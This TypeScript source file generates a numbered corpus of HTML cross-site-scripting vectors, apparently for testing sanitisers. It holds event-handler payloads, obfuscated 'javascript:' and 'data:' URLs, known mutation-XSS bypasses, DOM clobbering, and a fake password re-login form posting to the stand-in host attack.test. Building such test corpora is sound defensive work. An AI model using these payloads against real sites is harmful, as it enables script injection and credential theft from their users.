/**
 * HTML that does something when a browser shows it. Each vector, if it works, calls `parent.f(<its number>)`, asks
 * the network for `/fired/<its number>`, or takes the place of something of the page (`clobbers`). Made from tables: a
 * way in, a carrier, and the writings by which sanitisers are fooled.
 */
export interface Vector {
  id: number;
  family: string;
  html: string;
  /** What stands in `window` or `document` afterwards, if it works; an expression in the frame. */
  clobbers?: string;
}

/** Where a request says that a vector worked. */
export const ORIGIN = 'http://attack.test';

type Make = (call: string, url: string) => string | { html: string; clobbers: string };
const each = <A, B>(first: readonly A[], second: readonly B[]): [A, B][] =>
  first.flatMap((one) => second.map((other): [A, B] => [one, other]));
const entities = (text: string): string => [...text].map((sign) => `&#${sign.codePointAt(0)};`).join('');
const hex = (text: string): string => [...text].map((sign) => `&#x${sign.codePointAt(0)!.toString(16)};`).join('');

/** Elements that fire by themselves or when they are pointed at, clicked or given the focus; `*` is the handler's code. */
const HANDLERS = [
  'img src=x onerror=*',
  'img src=/none.png onerror=*',
  'image src=x onerror=*',
  'input type=image src=x onerror=*',
  'video src=x onerror=*',
  'audio src=x onerror=*',
  'script src=http://127.0.0.1:1/x onerror=*',
  'iframe onload=*',
  'svg onload=*',
  'style onload=*',
  'link rel=stylesheet href="data:text/css," onload=*',
  'details open ontoggle=*',
  'input autofocus onfocus=*',
  'a href=# onclick=*',
  'a href=https://a.example onmouseover=*',
  'p onmouseover=*',
  'div onclick=*',
  'h3 onpointerenter=*',
  'strong onmouseenter=*',
  'mark class=marker-pink onclick=*',
  'blockquote onclick=*',
  'ul onclick=*',
  'button onclick=*',
  'textarea onfocus=*',
  'select onfocus=*',
  'p tabindex=0 onfocus=*',
  'p contenteditable onfocus=*',
  'img src=/media/a.png onclick=*',
] as const;
const SEPARATORS = [' ', '/', '\n', '\t', '\f'];

function handlers(): Make[] {
  const quoted: ((code: string) => string)[] = [
    (code) => `"${code}"`,
    (code) => `'${code}'`,
    (code) => code,
    (code) => `"${entities(code)}"`,
    (code) => `"${hex(code)}"`,
  ];
  const plain = [...each(HANDLERS.slice(0, 14), quoted), ...each(HANDLERS.slice(14), quoted.slice(2, 4))].map(
    ([tag, quote]): Make =>
      (call) =>
        `<${tag.replace('*', quote(call))}>x`,
  );
  const cased = HANDLERS.map(
    (tag): Make =>
      (call) =>
        `<${tag
          .replace(/\bon(\w)(\w+)=\*/, (_, first: string, rest: string) => `oN${first.toUpperCase()}${rest}=*`)
          .toUpperCase()
          .replace('*', `"${call}"`)}>x`,
  );
  const apart = each(['img src=x onerror=*', 'svg onload=*', 'p onclick=*', 'details open ontoggle=*'], SEPARATORS).map(
    ([tag, separator]): Make =>
      (call) =>
        `<${tag.replaceAll(' ', separator).replace('*', `"${call}"`)}>x`,
  );
  const nested = each(HANDLERS.slice(0, 16), [
    '<p><strong>*</strong></p>',
    '<ul><li>*</li></ul>',
    '<table><tbody><tr><td>*</td></tr></tbody></table>',
  ]).map(
    ([tag, around]): Make =>
      (call) =>
        around.replace('*', `<${tag.replace('*', `"${call}"`)}>x`),
  );
  const animated: Make[] = [
    (call) => `<style>@keyframes x{}</style><p style="animation:x 1ms" onanimationstart="${call}">x</p>`,
    (call) => `<style>@keyframes y{}</style><p style="animation:y 1ms" onanimationend="${call}">x</p>`,
    (call) => `<body onload="${call}">`,
    (call) => `<body onpageshow="${call}">`,
    (call) => `<marquee onstart="${call}">x</marquee>`,
    (call) => `<video><source src=x onerror="${call}"></video>`,
    (call) => `<object data="x:x" onerror="${call}"></object>`,
    (call) => `<form onsubmit="${call};return false"><button>x</button></form>`,
  ];
  return [...plain, ...cased, ...apart, ...nested, ...animated];
}

/** `javascript:` as no filter of words finds it. */
const SCHEMES: ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => `  javascript:${call}`,
  (call) => `&#1;javascript:${call}`,
  (call) => `&#x1F;&#x20;javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `j&#97;vascript:${call}`,
  (call) => `&#0000106avascript:${call}`,
  (call) => `&#x6Aavascript:${call}`.replace('&#x6Aa', '&#x6A;a'),
  (call) => `javascript&colon;${call}`,
  (call) => `javascript&#58;${call}`,
  (call) => entities(`javascript:${call}`),
  (call) => hex(`javascript:${call}`),
  (call) => `javascript://a.example/%0a${call}`,
  (call) => `javascript:/*https://*/${call}`,
  (call) => `javascript:void(${call})//mailto:a@b.example`,
];
const CARRIERS = [
  '<a href="*">x</a>',
  '<iframe src="*"></iframe>',
  '<form action="*"><button>x</button></form>',
  '<form><button formaction="*">x</button></form>',
  '<form><input type=submit formaction="*"></form>',
  '<svg><a href="*"><text x=10 y=20>x</text></a></svg>',
  '<svg><a xlink:href="*"><text x=10 y=20>x</text></a></svg>',
  '<map name=m><area shape=default href="*"></map>',
  '<p><a href="*"><strong>x</strong></a></p>',
];

/** Elements that a browser reads by rules of their own, with what closes them hidden in an attribute, and the other way round. */
const RAW = ['noscript', 'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'title', 'textarea', 'template'];

function mutations(): Make[] {
  const hidden = RAW.filter((name) => name !== 'template').map(
    (name): Make =>
      (call) =>
        `<${name}><p title="</${name}><img src=x onerror=${call}>"></${name}>`,
  );
  const around = each(
    ['<table>*</table>', '<select>*</select>', '<ul>*</ul>', '<p>*</p>', '<blockquote>*</blockquote>'],
    ['noscript', 'style', 'title', 'xmp', 'textarea', 'noembed'],
  ).map(
    ([outer, name]): Make =>
      (call) =>
        outer.replace(
          '*',
          () => `<${name}></${name}><${name}><a title="</${name}><img src=x onerror=${call}>"></${name}>`,
        ),
  );
  const foreign = each(['svg', 'math'], ['style', 'title', 'xmp', 'noscript', 'textarea', 'noembed']).map(
    ([space, name]): Make =>
      (call) =>
        `<${space}><${name}><img src=x onerror=${call}></${name}></${space}>`,
  );
  const known: Make[] = [
    (call) => `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
    (call) => `<math></p><style><!--</style><img src=x onerror=${call}>--></style>`,
    (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
    (call) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${call}&gt;">`,
    (call) => `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror="${call}">`,
    (call) => `<svg><foreignObject><math><mtext><img src=x onerror=${call}></mtext></math></foreignObject></svg>`,
    (call) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${call}></style><img src=x onerror=${call}></annotation-xml></math>`,
    (call) => `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=${call}>">`,
    (call) =>
      `<svg><desc><table><thead><s></table></s><table></table><style><!--</style></thead><p id="--><img src=x onerror=${call}>">`,
    (call) =>
      `<table><tr><td><svg><desc><td></desc><style><a title="</style><img src=x onerror=${call}>"></style></svg></td></tr></table>`,
    (call) => `<select><svg><style><a title="</style></svg></select><img src=x onerror=${call}>">`,
    (call) =>
      `<template><s><template><s><img src=x onerror=${call}>@shafigullin</s></template></s></template><img src=x onerror=${call}>`,
    (call) => `<p><svg><style><p id="</style></svg><img src=x onerror=${call}>"></p>`,
    (call) => `<noscript><!--</noscript><img src=x onerror=${call}>--></noscript>`,
    (call) =>
      `<a href="</p><img src=x onerror=1>"><p title="</a><img src=x onerror=${call}>"></a><img src=x onerror=${call}>`,
    (call) => `<b><table><b><img src=x onerror=${call}></table>`,
    (call) => `<math><mi><table><mi><style><img src=x onerror=${call}></style></mi></table><img src=x onerror=${call}>`,
    (call) => `<svg><p><style><g title="</style><img src onerror=${call}>">`,
    (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing><img src=x onerror=${call}>`,
    (call) =>
      `<plaintext><img src=x onerror=1></plaintext>`.replace('<plaintext>', `<img src=x onerror=${call}><plaintext>`),
  ];
  return [...hidden, ...around, ...foreign, ...known];
}

const DATA_PAGES: ((url: string) => string)[] = [
  (url) => `data:text/html,<script>fetch('${url}',{mode:'no-cors'})</script>`,
  (url) => `DATA:text/html;charset=utf-8,<script>fetch('${url}',{mode:'no-cors'})</script>`,
  (url) =>
    `data:text/html;base64,${Buffer.from(`<script>fetch('${url}',{mode:'no-cors'})</script>`).toString('base64')}`,
  (url) =>
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="fetch('${url}',{mode:'no-cors'})"/>`.replaceAll(
      '"',
      '&quot;',
    ),
  (url) => `da&Tab;ta:text/html,<script>fetch('${url}',{mode:'no-cors'})</script>`,
];

const NAMES = [
  'getElementById',
  'body',
  'cookie',
  'forms',
  'querySelector',
  'createElement',
  'currentScript',
  'implementation',
];
const FORM_FIELDS = [
  'attributes',
  'parentNode',
  'childNodes',
  'nodeName',
  'removeChild',
  'setAttribute',
  'namespaceURI',
  'textContent',
];

const FAMILIES: Record<string, readonly Make[]> = {
  handlers: handlers(),
  'javascript addresses': [...each(CARRIERS.slice(0, 4), SCHEMES), ...each(CARRIERS.slice(4), SCHEMES.slice(0, 8))].map(
    ([carrier, scheme]): Make =>
      (call) =>
        carrier.replace('*', () => scheme(call)),
  ),
  'data addresses': [
    ...each(['<iframe src="*"></iframe>', '<object data="*"></object>', '<embed src="*">'], DATA_PAGES).map(
      ([carrier, page]): Make =>
        (_call, url) =>
          carrier.replace('*', () => page(url)),
    ),
    (call) => `<script src="data:text/javascript,${call}"></script>`,
    (call) => `<script src="data:text/javascript;base64,${Buffer.from(call).toString('base64')}"></script>`,
    (_call, url) => `<link rel=stylesheet href="data:text/css,body{background:url(${url})}">`,
  ],
  scripts: [
    (call) => `<script>${call}</script>`,
    (call) => `<SCRIPT>${call}</SCRIPT>`,
    (call) => `<script\n>${call}</script\t>`,
    (call) => `<script/x>${call}</script/y>`,
    (call) => `<script type=module>${call}</script>`,
    (call) => `<p>a<script>${call}</script>b</p>`,
    (call) => `<script>${call}`.concat('</script '.concat('>')),
    (call) => `<svg><script>${call}</script></svg>`,
    (call) => `<svg><script>${entities(call)}</script></svg>`,
    (call) => `<table><script>${call}</script></table>`,
    (call) => `<select><script>${call}</script></select>`,
    (call) => `<scr<script>ipt>x</script><script>${call}</script>`,
    (call) => `<<script>${call}//<</script>`,
  ],
  'svg and math': [
    (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
    (call) => `<svg><set onbegin="${call}" attributeName=x to=1>`,
    (call) => `<svg><animateTransform onbegin="${call}" attributeName=transform>`,
    (call) => `<svg><image href=x onerror="${call}"></svg>`,
    (call) => `<svg><a><animate attributeName=href values="javascript:${call}" /><text x=20 y=20>x</text></a></svg>`,
    (call) => `<svg><a><set attributeName=href to="javascript:${call}" /><text x=20 y=20>x</text></a></svg>`,
    (call) => `<svg><foreignObject><iframe onload="${call}"></iframe></foreignObject></svg>`,
    (call) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
    (call) => `<svg><desc><img src=x onerror="${call}"></desc></svg>`,
    (call) => `<svg><title><img src=x onerror="${call}"></title></svg>`,
    (call) => `<svg><g/onload="1"><g></g><svg onload="${call}"></svg></svg>`,
    (call) => `<math><mtext><img src=x onerror="${call}"></mtext></math>`,
    (call) => `<math><mi><img src=x onerror="${call}"></mi></math>`,
    (call) => `<math><ms><svg onload="${call}"></svg></ms></math>`,
    (call) => `<math href="javascript:1"><mtext><a href="javascript:${call}">x</a></mtext></math>`,
    (call) =>
      `<math><annotation-xml encoding="application/xhtml+xml"><img src=x onerror="${call}"></annotation-xml></math>`,
    (call) => `<svg><use href="#u"></use><g id=u><a href="javascript:${call}"><text x=1 y=20>x</text></a></g></svg>`,
  ],
  mutation: mutations(),
  styles: [
    ...[
      '@import "*";',
      '@import url(*);',
      'body{background:url(*)}',
      'p{list-style:url(*) inside;display:list-item}',
      'p{border-image:url(*) 1;border-style:solid}',
      'p::before{content:url(*)}',
    ].map(
      (rule): Make =>
        (_call, url) =>
          `<style>${rule.replace('*', url)}</style><p>x</p>`,
    ),
    ...[
      'background:url(*)',
      'background-image:url("*")',
      "background:\\75rl('*')",
      'list-style-image:url(*);display:list-item',
      'border-image:url(*) 1;border-style:solid',
      'cursor:url(*),auto;background:url(*)',
      '-webkit-mask:url(*);background:image-set(url(*) 1x)',
    ].map(
      (style): Make =>
        (_call, url) =>
          `<p style='${style.replaceAll('*', url)}'>x</p>`,
    ),
    (_call, url) => `<link rel=stylesheet href="${url}">`,
    (_call, url) => `<svg><style>@import "${url}";</style></svg>`,
    (_call, url) => `<table><tr><td style="background:url(${url})">x</td></tr></table>`,
    (_call, url) => `<mark class="marker-pink" style="background:url(${url})">x</mark>`,
  ],
  srcdoc: [
    (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    (call) => `<iframe srcdoc="&lt;script&gt;parent.${call}&lt;/script&gt;"></iframe>`,
    (call) => `<iframe srcdoc="${entities(`<script>parent.${call}</script>`)}"></iframe>`,
    (call) => `<iframe srcdoc="${hex(`<img src=x onerror=parent.${call}>`)}"></iframe>`,
    (call) => `<iframe src="https://a.example" srcdoc='<svg onload=parent.${call}>'></iframe>`,
    (call) => `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<body onload=parent.${call}>"></iframe>`,
    (call) => `<p><IFRAME SRCDOC="<details open ontoggle=parent.${call}>"></IFRAME></p>`,
  ],
  refresh: [
    (_call, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
    (_call, url) => `<meta http-equiv="Refresh" content="0; URL='${url}'">`,
    (_call, url) => `<META CONTENT="0;${url}" HTTP-EQUIV=REFRESH>`,
    (_call, url) => `<p>a</p><meta http-equiv="&#114;efresh" content="0,url=${entities(url)}">`,
    (_call, url) => `<ul><li><meta http-equiv=refresh content=" 0 ; url = ${url}"></li></ul>`,
  ],
  forms: [
    (_call, url) => `<form action="${url}"><button>x</button></form>`,
    (_call, url) => `<form action="${url}" method=post><input type=submit></form>`,
    (_call, url) => `<form><button formaction="${url}">x</button></form>`,
    (_call, url) => `<form><input type=image formaction="${url}" src="/media/a.png"></form>`,
    (_call, url) => `<form id=f1 action="${url}"></form><button form=f1>x</button>`,
    (_call, url) =>
      `<form action="${url}"><p><input name=password type=password><button>Sign in again</button></p></form>`,
  ],
  clobbering: [
    ...NAMES.map((name): Make => () => ({
      html: `<img name=${name} src=/media/a.png>`,
      clobbers: `document.${name} instanceof HTMLElement && document.${name}.tagName === 'IMG'`,
    })),
    ...NAMES.map((name): Make => () => ({
      html: `<form name="${name}"></form>`,
      clobbers: `document.${name} instanceof HTMLFormElement`,
    })),
    ...FORM_FIELDS.map((field): Make => () => ({
      html: `<form class=k><input name=${field}></form>`,
      clobbers: `document.querySelector && document.getElementsByClassName('k')[0]?.${field} instanceof HTMLInputElement`,
    })),
    ...['config', 'csrftoken', '__NONCE__', 'settings', 'require', 'process'].flatMap((name): Make[] => [
      () => ({
        html: `<a id=${name} href="https://a.example">x</a>`,
        clobbers: `window['${name}'] instanceof HTMLElement`,
      }),
      () => ({
        html: `<a id=${name}></a><a id=${name} name=url href="x:y">x</a>`,
        clobbers: `window['${name}']?.url instanceof HTMLElement`,
      }),
      () => ({ html: `<p id="${name}">x</p>`, clobbers: `window['${name}'] instanceof HTMLElement` }),
      () => ({
        html: `<iframe name=${name} srcdoc="x"></iframe>`,
        clobbers: `window['${name}'] !== undefined && window['${name}'].window === window['${name}']`,
      }),
    ]),
  ],
  'comments and instructions': [
    (call) => `<!--><img src=x onerror=${call}>-->`,
    (call) => `<!---><img src=x onerror=${call}>-->`,
    (call) => `<!-- --!><img src=x onerror=${call}>-->`,
    (call) => `<!--a--><img src=x onerror=${call}><!--b-->`,
    (call) => `<!-- <!-- --><img src=x onerror=${call}>-->`,
    (call) => `<![CDATA[><img src=x onerror=${call}>]]>`,
    (call) => `<svg><![CDATA[</svg>]]></svg><img src=x onerror=${call}>`,
    (call) => `<svg><style><![CDATA[</style><img src=x onerror=${call}>]]></style></svg>`,
    (call) => `<?xml version="1.0"?><img src=x onerror=${call}>`,
    (call) => `<?php echo "><img src=x onerror=${call}>"?>`,
    (call) => `<!doctype html><img src=x onerror=${call}>`,
    (call) => `<!x "><img src=x onerror=${call}>">`,
    (call) => `</ ><img src=x onerror=${call}>`,
    (call) => `</-><img src=x onerror=${call}>`,
    (call) => `<!--[if gte mso 9]><![endif]--><img src=x onerror=${call}>`,
    (call) => `<![if !supportLists]><img src=x onerror=${call}><![endif]>`,
    (call) => `<p><!--</p><img src=x onerror=1>--><img src=x onerror=${call}></p>`,
  ],
  'broken markup': [
    (call) => `<img src=x onerror=${call} <b>x`,
    (call) => `<<img src=x onerror=${call}>`,
    (call) => `<img/src/onerror=${call}>`,
    (call) => `<img """><img src=x onerror="${call}">">`,
    (call) => `<p title="a>"><img src=x onerror=${call}>`,
    (call) => `<a href="https://a.example"onclick=${call}>x</a>`,
    (call) => `<a href='https://a.example'x=''onclick=${call}>x</a>`,
    (call) => `<a href="https://a.example"/onclick=${call}>x</a>`,
    (call) => `<img src=x alt="\`><img src=x onerror=${call}>"><img src=x onerror=${call}>`,
    (call) => `<p a="b" a='c' onclick=${call} onclick=1>x</p>`,
    (call) => `<p =a onclick=${call}>x</p>`,
    (call) => `<p "a" onclick=${call}>x</p>`,
    (call) => `<img src=x onerror=\u000c${call}>`,
    (call) => `<img src=x onerror\n=\n"${call}">`,
    (call) => `<img src=x\u0000y onerror=${call}>`,
    (call) => `</p></div></body></html><img src=x onerror=${call}>`,
    (call) => `<ul><li><svg><li><img src=x onerror=${call}>`,
    (call) => `<table><tr><p><img src=x onerror=${call}></table></p>`,
    (call) => `<select><option><p></select><img src=x onerror=${call}>`,
    (call) => `<a><table><a href="javascript:${call}">x</a></table></a>`,
    (call) => `<p><button><p onclick=${call}>x</button></p>`,
    (call) => `<b><i></b><img src=x onerror=${call}></i>`,
    (call) => `${'<blockquote>'.repeat(600)}<img src=x onerror=${call}>`,
    (call) => `${'<a>'.repeat(40)}<img src=x onerror=${call}>`,
  ],
  'other addresses': [
    (_call, url) => `<img src="${url}">`,
    (_call, url) => `<img src="//attack.test/fired/${url.split('/').at(-1)}">`,
    (_call, url) => `<img src="/media/../fired/${url.split('/').at(-1)}">`,
    (_call, url) => `<img src="/media/%2e%2e/fired/${url.split('/').at(-1)}">`,
    (_call, url) => `<img src="/media/.&Tab;./fired/${url.split('/').at(-1)}">`,
    (_call, url) => `<img src="/media\\..\\fired\\${url.split('/').at(-1)}">`,
    (_call, url) => `<img src="/media/a.png" srcset="${url} 1x">`,
    (_call, url) => `<picture><source srcset="${url}"><img src="/media/a.png"></picture>`,
    (_call, url) => `<video poster="${url}"></video>`,
    (_call, url) => `<video src="${url}"></video>`,
    (_call, url) => `<audio src="${url}" preload=auto></audio>`,
    (_call, url) => `<input type=image src="${url}">`,
    (_call, url) => `<body background="${url}">`,
    (_call, url) => `<table background="${url}"><tr><td>x</td></tr></table>`,
    (_call, url) => `<table><tr><td background="${url}">x</td></tr></table>`,
    (_call, url) => `<iframe src="${url}"></iframe>`,
    (_call, url) => `<object data="${url}"></object>`,
    (_call, url) => `<embed src="${url}">`,
    (_call, url) => `<svg><image href="${url}"/></svg>`,
    (_call, url) =>
      `<svg><filter id=z><feImage href="${url}"/></filter><rect width=9 height=9 filter="url(#z)"/></svg>`,
    (_call, url) => `<base href="${url}/"><img src="x">`,
    (_call, url) => `<link rel=preload as=image href="${url}">`,
    (_call, url) => `<link rel=prefetch href="${url}">`,
    (_call, url) => `<link rel=icon href="/x"><link rel=modulepreload href="${url}">`,
  ],
};

/** All vectors, numbered from 0 throughout. */
export const CORPUS: readonly Vector[] = Object.entries(FAMILIES)
  .flatMap(([family, makes]) => makes.map((make) => ({ family, make })))
  .map(({ family, make }, id) => {
    const made = make(`parent.f(${id})`, `${ORIGIN}/fired/${id}`);
    return typeof made === 'string' ? { id, family, html: made } : { id, family, ...made };
  });
